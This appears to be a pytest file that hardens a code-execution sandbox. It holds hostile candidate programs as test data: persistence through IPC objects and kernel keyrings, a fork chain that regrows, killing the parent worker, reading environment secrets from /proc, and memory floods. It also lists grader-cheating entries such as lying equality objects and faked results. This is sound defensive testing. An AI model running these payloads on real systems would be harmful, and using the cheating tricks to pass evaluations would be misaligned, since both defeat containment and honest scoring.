    Kind("fake_results_on_stdout_and_stderr", FAKE_OUTPUT),
    Kind("exit0_at_import", EXIT_AT_IMPORT, check=_load_failed),
    Kind("exit0_in_call", EXIT_IN_CALL, check=_all_status("error")),
    Kind("os_exit_at_import", OS_EXIT_AT_IMPORT, check=_load_failed),
    Kind("os_exit_and_sigkill_in_call", OS_EXIT_IN_CALL, check=_all_status("error")),
    Kind("segfault_and_stack_overflow", SEGFAULT, check=_all_status("error")),
    Kind("read_test_data_from_disk", READ_TEST_DATA),
    Kind("read_secret_files", READ_SECRET_FILES),
    Kind("secrets_from_environment", ENV_SECRETS),
    Kind("secrets_from_environment_via_load_error", ENV_SECRETS_LOAD_ERROR, check=_load_failed),
    Kind("write_outside_scratch", WRITE_OUTSIDE),
    Kind("orphan_processes", ORPHANS),
    Kind("double_fork_setsid_daemons", DAEMON),
    Kind("fork_bomb", FORK_BOMB, cases=1, sample=True,
         check=_both(_all_status("timeout"), _bounded_processes)),
    Kind("memory_hog", MEMORY_HOG, cases=1),
    Kind("cpu_loop_ignoring_signals", CPU_LOOP, cases=2, check=_all_status("timeout")),
    Kind("cpu_loop_at_import", CPU_LOOP_AT_IMPORT, cases=2, check=_load_failed),
    Kind("sleeper", SLEEPER, cases=1, check=_all_status("timeout")),
    Kind("huge_output", HUGE_OUTPUT, cases=1),
    Kind("network_access", NETWORK, check=_no_network),
    Kind("kill_parent", KILL_PARENT),
    Kind("read_stdin", READ_STDIN, check=_stdin_eof),
    Kind("tamper_worker_encoder_json_pickle", TAMPER_ENCODER),
    Kind("tamper_worker_error_reporting", TAMPER_DESCRIBE, check=_all_outcomes("error")),
    Kind("tamper_builtins_and_int_eq", TAMPER_BUILTINS, check=_plain_records),
    Kind("forged_protocol_at_import", FORGED_AT_IMPORT, check=_load_failed),
    Kind("forged_protocol_later_steps", FORGED_LATER_STEPS),
    Kind("forged_protocol_no_record", FORGED_NO_RECORD),
    Kind("forged_protocol_encoding", FORGED_ENCODING),
    Kind("forged_protocol_giant_line", FORGED_GIANT_LINE),
    Kind("huge_and_unrepresentable_records", HUGE_RECORDS),
    Kind("fifo_in_place_of_captured_output", FIFO_OUTPUT, cases=1, check=_quick(5.0)),
    Kind("directory_tree_deeper_than_cleanup", DEEP_TREE, cases=1),
    Kind("close_result_pipe_and_linger", CLOSE_PIPE_AND_LINGER, cases=1, check=_quick(5.0)),
    # round two (issue 7)
    Kind("sibling_code_and_answers_left_in_inherited_memory", THIEF, cases=2,
         before=SIBLING_BEFORE, check=_nothing_stolen),
    Kind("short_thief_after_a_sibling", THIEF_SMALL, cases=2, before=SIBLING_BEFORE,
         check=_nothing_stolen),
    Kind("next_job_waiting_in_the_pipe_or_a_read_ahead_buffer", THIEF, cases=2,
         after=SIBLING_AFTER, check=_nothing_stolen),
    Kind("set_and_dict_of_colliding_hashes", HASH_FLOOD, cases=6, check=_errors_quickly(20.0)),
    Kind("flood_of_records_in_one_step", RECORD_FLOOD, cases=2, check=_errors_quickly(20.0)),
    Kind("records_nested_past_any_parser", DEEP_RECORD, cases=1, check=_errors_quickly(20.0)),
    Kind("memory_in_memfds", MEMFD_HOARD, cases=1, check=_held_together_at_most(64)),
    Kind("memory_in_shared_mappings_over_processes", SHARED_HOARD, cases=1, sample=True,
         memory=True, check=_held_together_at_most(64, killed_one_by_one=True)),
    Kind("tmpfs_in_a_user_namespace", USERNS_TMPFS, cases=1, check=_userns_refused),
    Kind("half_a_million_files_while_loading", FILE_FLOOD, cases=1, check=_files_capped),
    Kind("half_a_million_files_in_dev_shm", FILE_FLOOD.replace("/tmp/flood", "/dev/shm/flood"),
         cases=1, check=_files_capped),
]


@needs_bwrap
@pytest.mark.parametrize("kind", KINDS, ids=[k.name for k in KINDS])
def test_evil_candidate(kind: Kind, sandbox: Sandbox, world: World) -> None:
    attack(sandbox, world, kind)


def _planted(thief: str) -> str:
    """`thief`, with a copy of the sibling's code and printed answers built at run time in
    its own memory (its source holds neither whole): what a leak would have left there."""
    return (
        "_PLANT = bytearray(('# coral-sib' + 'ling-@RUN@\\n' + "
        + repr(_SIBLING_CODE.split("\n", 2)[2].split("# end-")[0]) + " + '# end-sib' + "
        "'ling-@RUN@ [[127]' + ', 7]').encode())\n" + thief)


@needs_bwrap
@pytest.mark.parametrize("thief", ["THIEF", "THIEF_SMALL"])
def test_the_thieves_find_a_sibling_that_is_there(thief: str, sandbox: Sandbox,
                                                  world: World) -> None:
    """The control for the thief kinds: with the sibling's code really in its memory, a
    thief finds it, runs it and passes every test. Their failing elsewhere means the
    sandbox left nothing to find, not that they could not look."""
    spec, result, outcomes = score(sandbox, world, thief, _planted(globals()[thief]), cases=2)
    assert [o.status for o in outcomes] == ["pass", "pass"], (outcomes, result.stdout[-500:])
    assert "code" in result.stdout.split("THIEF-FOUND:")[-1], result.stdout[-500:]


# ------------------------------------------------------------------ attacks needing two jobs

PERSIST_WRITE = r'''
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
KEY = 0x5EED0 + int("@RUN@"[:4], 16)
MARK = b"coral-evil-@RUN@"
MADE = []

for path in ("/tmp/persist-@RUN@", "/tmp/job/persist-@RUN@", "/dev/shm/persist-@RUN@"):
    try:
        with open(path, "w") as handle:
            handle.write("@MARK@")
    except OSError:
        pass
try:
    os.makedirs("/tmp/locked-@RUN@/inner")
    with open("/tmp/locked-@RUN@/inner/file", "w") as handle:
        handle.write("@MARK@")
    os.chmod("/tmp/locked-@RUN@/inner", 0)
    os.chmod("/tmp/locked-@RUN@", 0)
except OSError:
    pass
shmid = libc.shmget(KEY, 32 << 20, 0o1666)  # 32 MiB of System V shared memory
if shmid >= 0:
    MADE.append("shm")
    address = libc.shmat(shmid, None, 0)
    if address not in (None, ctypes.c_void_p(-1).value):
        ctypes.memset(address, 1, 32 << 20)
        libc.shmdt(ctypes.c_void_p(address))
msqid = libc.msgget(KEY, 0o1666)
if msqid >= 0:
    MADE.append("msg")
    message = ctypes.create_string_buffer(b"\x01\0\0\0\0\0\0\0@MARK@")
    libc.msgsnd(msqid, message, len("@MARK@"), 0)
if libc.semget(KEY, 1, 0o1666) >= 0:
    MADE.append("sem")
try:
    libc.mq_open.restype = ctypes.c_int
    if libc.mq_open(b"/coral-evil-@RUN@", os.O_CREAT | os.O_RDWR, 0o666, None) >= 0:
        MADE.append("mqueue")
except AttributeError:
    pass
KEYS = {"x86_64": (248, 249, 250), "aarch64": (217, 218, 219)}.get(os.uname().machine)
if KEYS:  # the sandbox user's keyrings: shared by every process of that user, on the host
    add, keyctl = KEYS[0], KEYS[2]
    for name, keyring in (("user", -4), ("user-session", -5), ("session", -3)):
        if libc.syscall(add, b"user", MARK + b"-" + name.encode(), b"@MARK@", 15, keyring) > 0:
            MADE.append(name)
    persistent = libc.syscall(keyctl, 22, -1, -4)  # KEYCTL_GET_PERSISTENT into the user's
    if persistent > 0 and libc.syscall(add, b"user", MARK + b"-persistent", b"@MARK@", 15,
                                       persistent) > 0:
        MADE.append("persistent")
    named = libc.syscall(keyctl, 1, MARK + b"-named")  # KEYCTL_JOIN_SESSION_KEYRING
    if named > 0 and libc.syscall(keyctl, 8, named, -4) == 0:  # KEYCTL_LINK into user's
        MADE.append("named session keyring")
print("MADE", sorted(MADE))


def bitcount(n):
    return -1
'''

PERSIST_READ = r'''
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
KEY = 0x5EED0 + int("@RUN@"[:4], 16)
MARK = b"coral-evil-@RUN@"
FOUND = []
for path in ("/tmp/persist-@RUN@", "/tmp/job/persist-@RUN@", "/dev/shm/persist-@RUN@",
             "/tmp/locked-@RUN@", "/dev/mqueue/coral-evil-@RUN@"):
    if os.path.lexists(path):
        FOUND.append(path)
for table in ("shm", "msg", "sem"):
    try:
        with open("/proc/sysvipc/" + table) as handle:
            rows = handle.read().splitlines()[1:]
        if rows:
            FOUND.append("System V %s: %d left" % (table, len(rows)))
    except OSError:
        pass
if libc.shmget(KEY, 0, 0) >= 0:
    FOUND.append("shared memory segment")
if libc.msgget(KEY, 0) >= 0:
    FOUND.append("message queue")
if libc.semget(KEY, 0, 0) >= 0:
    FOUND.append("semaphore set")
try:
    if libc.mq_open(b"/coral-evil-@RUN@", os.O_RDONLY) >= 0:
        FOUND.append("POSIX message queue")
except AttributeError:
    pass
try:
    with open("/proc/keys", "rb") as handle:
        FOUND += ["key: " + line.decode()[-60:] for line in handle if MARK in line]
except OSError:
    pass
KEYS = {"x86_64": (248, 249, 250), "aarch64": (217, 218, 219)}.get(os.uname().machine)
if KEYS:
    for name, keyring in (("user", -4), ("user-session", -5), ("session", -3)):
        key = libc.syscall(KEYS[2], 10, keyring, b"user", MARK + b"-" + name.encode(), 0)
        if key > 0:  # KEYCTL_SEARCH found it
            FOUND.append(name + " keyring entry")
            libc.syscall(KEYS[2], 21, key)  # KEYCTL_INVALIDATE: leave the host clean


def bitcount(n):
    return sorted(FOUND)
'''


def keys_left(mark: str) -> int:
    """Kernel keys whose description holds `mark` that the sandbox user can still see, read
    by a fresh process of that user on the host (as root: `nobody`; otherwise ourselves)."""
    import subprocess

    ids = {"user": NOBODY, "group": NOBODY} if os.geteuid() == 0 else {}
    deadline = time.monotonic() + 5.0  # the kernel frees unreferenced keys asynchronously
    while True:
        done = subprocess.run(["cat", "/proc/keys"], capture_output=True, timeout=60, cwd="/",
                              **ids)
        assert done.returncode == 0, done.stderr
        left = [line for line in done.stdout.splitlines()
                if mark.encode() in line or b"_persistent." in line]
        if not left or time.monotonic() > deadline:
            return len(left)
        time.sleep(0.05)


def _made(result: ExecutionResult) -> list[str]:
    lines = [line for line in result.stdout.splitlines() if line.startswith("MADE ")]
    assert lines, f"the writer never reported: {result.stdout[-300:]!r} {result.load_error!r}"
    return json.loads(lines[-1][5:].replace("'", '"'))


def _writer_then_reader(box: Sandbox, world: World) -> list[str]:
    """Run the writer (checked like every kind), check the host, run the reader: what the
    writer managed to create."""
    result = attack(box, world, Kind("persistence_writer", PERSIST_WRITE))
    workers, _ = _sandbox_procs()
    assert keys_left(f"coral-evil-{RUN}") == 0, "the writer's keys (or a persistent keyring) " \
        "outlived its job"
    _, result_read, _ = score(box, world, "persistence_reader", PERSIST_READ, cases=1)
    assert _sandbox_procs()[0] == workers, "the worker was restarted: the test proves nothing"
    found = result_read.steps[0].records
    assert result_read.steps[0].status == "ok" and found == ([],), (
        f"state written by one candidate survived into the next candidate's job: {found} "
        f"{result_read.steps[0].detail}")
    return _made(result)


@needs_bwrap
def test_nothing_persists_from_one_candidate_to_the_next(sandbox: Sandbox, world: World) -> None:
    """Files anywhere writable, locked directories, System V IPC objects, POSIX message
    queues and kernel keys (user, user session, session, persistent and named keyrings) left
    by one candidate are gone for the next one in the same slot, and from the host (the
    memory they hold is freed). With the seccomp filter none of the kernel objects can even
    be made."""
    made = _writer_then_reader(sandbox, world)
    assert made == [], f"the seccomp filter let the candidate create {made}"


@needs_bwrap
def test_nothing_persists_without_the_syscall_filter(secrets_in_env, world: World) -> None:
    """The layer behind the filter: every kind of object is really created, and still
    removed after the job (keyrings emptied by a janitor of the sandbox user, IPC and
    message queues by the worker as PID 1 of the IPC namespace)."""
    with Sandbox(replace(POLICY, isolation="bwrap", syscall_filter=False), workers=1) as box:
        _warm(box, world)
        made = _writer_then_reader(box, world)
    expected = {"shm", "msg", "sem", "mqueue", "user", "user-session", "session"}
    assert expected <= set(made), f"the writer could not create {expected - set(made)}"


MEMORY_SPREAD = r'''
import os
import time


def _hold():
    hoard, chunk = [], 8 << 20
    while chunk >= 1 << 20:
        try:
            hoard.append(b"\x01" * chunk)
        except MemoryError:
            chunk //= 2
    time.sleep(100)


def bitcount(n):
    for _ in range(8):
        try:
            if os.fork() == 0:
                _hold()
        except OSError:
            pass
    _hold()
'''


@needs_bwrap
def test_memory_hog_spread_over_processes_is_bounded(secrets_in_env, world: World) -> None:
    """memory_mb bounds a candidate, not each of its processes: nine processes that each fill
    their own address-space limit must not hold nine times the memory (the defaults, 32
    processes of 1 GiB, would exceed the RAM of most machines that run this)."""
    policy = replace(POLICY, isolation="bwrap", memory_mb=128)
    with Sandbox(policy, workers=1) as box:
        _warm(box, world)
        kind = Kind("memory_hog_spread_over_processes", MEMORY_SPREAD, cases=1, sample=True,
                    memory=True)
        sampler = Sampler(memory=True)
        with sampler:
            score(box, world, kind.name, kind.code, kind.cases)
        _assert_no_leftovers(kind.name)
        assert sampler.peak_processes >= 2, "the candidate never forked: the test proves nothing"
        assert sampler.peak_mb <= 3 * policy.memory_mb, (
            f"[{kind.name}] one candidate held {sampler.peak_mb:.0f} MiB in "
            f"{sampler.peak_processes} processes with memory_mb={policy.memory_mb}: the memory "
            f"limit is per process, so a candidate can take max_processes x memory_mb")
        _assert_next_is_normal(kind.name, box, world)


MEMORY_KINDS_WITHOUT_CGROUP = [
    Kind("memory_in_memfds", MEMFD_HOARD, cases=1, check=_held_together_at_most(64)),
    Kind("memory_in_shared_mappings_over_processes", SHARED_HOARD, cases=1,
         check=_held_together_at_most(256)),
    Kind("tmpfs_in_a_user_namespace", USERNS_TMPFS, cases=1, check=_userns_refused),
    Kind("half_a_million_files_while_loading", FILE_FLOOD, cases=1, check=_files_capped),
    Kind("half_a_million_files_in_dev_shm", FILE_FLOOD.replace("/tmp/flood", "/dev/shm/flood"),
         cases=1, check=_files_capped),
]


@pytest.fixture(scope="module")
def sandbox_without_cgroup(secrets_in_env, world: World):
    if not HAVE_BWRAP:
        _without_bwrap()
    box = Sandbox(replace(POLICY, isolation="bwrap", cgroup=False), workers=1)
    try:
        yield _warm(box, world)
    finally:
        box.close()


@needs_bwrap
@pytest.mark.parametrize("kind", MEMORY_KINDS_WITHOUT_CGROUP,
                         ids=[k.name for k in MEMORY_KINDS_WITHOUT_CGROUP])
def test_memory_is_bounded_without_a_cgroup(kind: Kind, sandbox_without_cgroup: Sandbox,
                                            world: World) -> None:
    """Where no cgroup can be made: memfds are refused by the filter, shared mappings are
    in the sampled figure, user namespaces are refused, files are counted."""
    attack(sandbox_without_cgroup, world, kind)


# ------------------------------------------------------------------ without bubblewrap

NONE_ORPHANS = r'''
import os
import signal
import time


def _daemon(exec_sleep):
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    signal.signal(signal.SIGHUP, signal.SIG_IGN)
    try:
        with open("/proc/self/comm", "w") as comm:
            comm.write("@COMM@")
    except OSError:
        pass
    if exec_sleep:
        os.execv("/bin/sleep", ["sleep", "@SLEEP@"])
    while True:
        time.sleep(0.05)


_daemon(True)
_daemon(False)


def bitcount(n):
    if os.fork() == 0:
        os.execv("/bin/sleep", ["sleep", "@SLEEP@"])
    return -1
'''

NONE_KILL_PARENT = r'''
import os
import signal


def bitcount(n):
    try:
        os.kill(os.getppid(), signal.SIGKILL)  # its own worker: same user without bubblewrap
    except OSError:
        pass
    os.execv("/bin/sleep", ["sleep", "@SLEEP@"])  # and linger
'''

NONE_DEEP_TREE_THEN_KILL_PARENT = r'''
import os
import signal


def bitcount(n):
    for _ in range(3000):  # deeper than a recursive cleanup can go
        os.mkdir("d")
        os.chdir("d")
    os.kill(os.getppid(), signal.SIGKILL)
    return -1
'''

# Each process leaves the killed process group (setsid) and the lowest forks again as soon
# as the process limit lets it: killing a tree from the top regrew it below faster than it
# was killed, and the chain outlived the job and Coral (found by a red-team pass).
NONE_REGROWING_CHAIN = r'''
import os
import time

END = time.time() + 30  # never longer than this, whatever happens to the test


def _chain():
    try:
        with open("/proc/self/comm", "w") as comm:
            comm.write("@COMM@")
    except OSError:
        pass
    while time.time() < END:
        try:
            child = os.fork()
        except OSError:
            time.sleep(0.0005)
            continue
        if child == 0:
            try:
                os.setsid()
            except OSError:
                pass
            continue
        try:
            os.waitpid(child, 0)
        except ChildProcessError:
            pass
    os._exit(0)


def bitcount(n):
    if os.fork() == 0:
        _chain()
    time.sleep(0.2)
    return -1
'''

NONE_ENV = PRELUDE + r'''
_leak("".join("%s=%s\n" % item for item in _os.environ.items()))
for _pid in ("self", str(_os.getppid()), "@HOSTPID@"):
    _read("/proc/%s/environ" % _pid)
_report()


def bitcount(n):
    if n % 2:
        raise RuntimeError(str(_answer(n)))
    return _answer(n)
'''

NONE_KINDS = [
    Kind("lying_eq_object", LYING_OBJECT, check=_plain_records),
    Kind("lying_eq_int_subclass", LYING_INT, check=_plain_records),
    Kind("fake_results_on_stdout_and_stderr", FAKE_OUTPUT),
    Kind("exit0_at_import", EXIT_AT_IMPORT, check=_load_failed),
    Kind("exit0_in_call", EXIT_IN_CALL, check=_all_status("error")),
    Kind("os_exit_and_sigkill_in_call", OS_EXIT_IN_CALL, check=_all_status("error")),
    Kind("orphans_and_daemons", NONE_ORPHANS),
    Kind("secrets_from_environment", NONE_ENV),
    Kind("kill_parent_then_linger", NONE_KILL_PARENT, cases=2, may_kill_worker=True),
    Kind("deep_tree_then_kill_parent", NONE_DEEP_TREE_THEN_KILL_PARENT, cases=1,
         may_kill_worker=True),
    Kind("close_result_pipe_and_linger", CLOSE_PIPE_AND_LINGER, cases=1, check=_quick(5.0)),
    Kind("setsid_chain_that_regrows", NONE_REGROWING_CHAIN, cases=1, check=_quick(8.0)),
    Kind("short_thief_after_a_sibling", THIEF_SMALL, cases=2, before=SIBLING_BEFORE,
         check=_nothing_stolen),
    Kind("set_and_dict_of_colliding_hashes", HASH_FLOOD, cases=6, check=_errors_quickly(20.0)),
    Kind("flood_of_records_in_one_step", RECORD_FLOOD, cases=2, check=_errors_quickly(20.0)),
    Kind("tmpfs_in_a_user_namespace", USERNS_TMPFS, cases=1, check=_userns_refused),
]


@pytest.fixture(scope="module")
def none_sandbox(secrets_in_env, world: World):
    box = Sandbox(replace(POLICY, isolation="none"), workers=1)
    try:
        yield box
    finally:
        box.close()


@pytest.mark.parametrize("kind", NONE_KINDS, ids=[k.name for k in NONE_KINDS])
def test_isolation_none_keeps_the_other_layers(kind: Kind, none_sandbox: Sandbox,
                                               world: World) -> None:
    """Without bubblewrap: comparison in the parent, exits, process cleanup and the
    scrubbed environment still hold (see the module docstring for what does not)."""
    assert not none_sandbox.isolated
    attack(none_sandbox, world, kind, bwrap=False)
